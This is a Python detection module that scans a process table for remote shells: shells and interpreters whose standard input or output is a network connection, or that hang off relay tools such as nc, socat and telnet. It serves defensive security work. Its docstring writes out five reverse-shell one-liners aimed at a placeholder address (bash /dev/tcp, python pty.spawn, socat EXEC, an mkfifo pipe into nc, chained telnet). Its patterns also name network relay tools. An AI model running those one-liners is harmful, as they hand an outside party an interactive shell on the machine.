"""Shells that somebody elsewhere types into: pure over one pass of the process table.

    stdin or stdout is a connection     bash -i >& /dev/tcp/203.0.113.9/4444 0>&1, and every dup2() of it
    an interpreter whose both are one   python -c '...dup2...; pty.spawn("sh")'
    the parent is a relay               socat TCP:203.0.113.9:4444 EXEC:sh,pty
    pipes lead to a relay and back      mkfifo f; sh -i <f 2>&1 | nc 203.0.113.9 4444 >f
    ... or from one and to another      telnet 203.0.113.9 4444 | sh | telnet 203.0.113.9 4445

What inetd or a socket unit starts has a connection there too, and is told apart by two things together: the
connection came in by a port on which somebody listens, and the parent is such a server. The shells of sshd
hang on terminals, pipes and UNIX sockets.
"""

import re
from collections.abc import Iterator
from ipaddress import ip_address
from typing import NamedTuple

from .proctable import Connection, Process, Table, socket_inode

SHELLS = frozenset(
    {"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "csh", "tcsh", "fish", "busybox", "rbash"}
)
_INTERPRETER = re.compile(r"(?:python|perl|ruby|php|lua|node|gawk|mawk|tclsh|expect)[\d.]*$")
# Distributions name them after their makers or versions (socat1, telnet.netkit).
_RELAY = re.compile(
    r"(?:nc|ncat|netcat|nc\.openbsd|nc\.traditional|socat\d?|(?:inetutils-)?telnet(?:\.netkit)?|openssl|chisel|frpc)$"
)
_APPLETS = frozenset({"nc", "netcat", "telnet"})
_PIPES = ("pipe:[", "/")
_NO_PIPES = ("/dev/",)
_OPEN_TO_ALL = "/dev/shm/"  # noqa: S108 - looked for, not used


class Shell(NamedTuple):
    """A process that a connection types into, by way of another where there is one."""

    process: Process
    connection: Connection
    how: str


def remote_shells(table: Table, servers: frozenset[str]) -> Iterator[Shell]:
    """Yield the shells that hang on a connection to another host.

    Args:
        table: The processes.
        servers: Names of programs that may start a process with a connection that came in.
    """
    relays = {
        process.pid: connection
        for process in table.processes.values()
        if _is_relay(table, process) and (connection := _talks(table, process))
    }
    for process in table.processes.values():
        is_shell = process.base in SHELLS
        if not is_shell and not _INTERPRETER.match(process.base):
            continue
        stdin, stdout, stderr = table.stdio(process.pid)
        connection = _on(table, process, servers, stdin, stdout, stderr, both=not is_shell)
        if connection:
            yield Shell(process, connection, "stdio")
        elif is_shell and process.parent in relays:
            yield Shell(process, relays[process.parent], "child of a relay")
        elif is_shell and (relay := _piped(table, relays, stdin, stdout)):
            yield Shell(process, relays[relay], "pipes to a relay")


def _on(table: Table, process: Process, servers: frozenset[str], *ends: str, both: bool) -> Connection | None:
    """Return the connection on a process's standard descriptors; `both`: input and output have to be it."""
    if both and ends[0] != ends[1]:
        return None
    inodes = [inode for end in ends if (inode := socket_inode(end)) is not None]
    if not inodes:
        return None
    network = table.connections(process.pid)
    parent = table.processes.get(process.parent)
    for inode in inodes:
        connection = network.by_inode.get(inode)
        if connection is None or not _is_elsewhere(connection):
            continue
        came_in = connection.local_port in network.listening
        if not (came_in and parent and parent.base in servers):
            return connection
    return None


def _talks(table: Table, relay: Process) -> Connection | None:
    known = table.connections(relay.pid).by_inode
    for inode in table.sockets(relay.pid):
        connection = known.get(inode)
        if connection and _is_elsewhere(connection):
            return connection
    return None


def _is_relay(table: Table, process: Process) -> bool:
    if process.base != "busybox":
        return _RELAY.match(process.base) is not None
    words = table.arguments(process.pid).split(" ", 2)[:2]
    return not _APPLETS.isdisjoint({process.name, *(word.rpartition("/")[2] for word in words)})


def _piped(table: Table, relays: dict[int, Connection], stdin: str, stdout: str) -> int | None:
    """Return the relay that a shell's output goes to, where its input comes from it, or from another, too."""
    if not _is_pipe(stdin) or not stdout.startswith("pipe:["):
        return None
    ends = {pid: table.stdio(pid) for pid in relays}
    fed = any(relay_out == stdin for _, relay_out, _ in ends.values())
    for pid, (relay_in, relay_out, _) in ends.items():
        if relay_in == stdout and (fed or _is_pipe(relay_out)):
            return pid
    return None


def _is_pipe(end: str) -> bool:
    """Say whether an end is a pipe, or a name that may be one; no terminal, no /dev/null."""
    return end.startswith(_PIPES) and (end.startswith(_OPEN_TO_ALL) or not end.startswith(_NO_PIPES))


def _is_elsewhere(connection: Connection) -> bool:
    return not ip_address(connection.remote_address).is_loopback
